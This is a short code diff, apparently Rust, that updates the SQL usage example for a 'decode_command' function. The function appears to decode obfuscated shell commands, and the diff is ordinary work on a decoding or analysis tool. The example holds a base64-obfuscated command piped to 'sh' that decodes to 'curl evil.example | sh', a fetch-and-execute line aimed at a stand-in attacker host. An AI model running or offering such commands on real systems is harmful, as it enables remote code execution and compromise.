@@ -34,7 +34,9 @@ pub(super) fn decode_command() -> StringFunction {
         "decode_command(text)",
     )
     .with_argument("text", "a command line")
-    .with_sql_example("decode_command('echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh')")
+    .with_sql_example(
+        "decode_command('echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh') = 'curl evil.example | sh'",
+    )
     .build();
     let body = Body::Text(|arguments| {
         let [text] = arguments else { return Ok(None) };
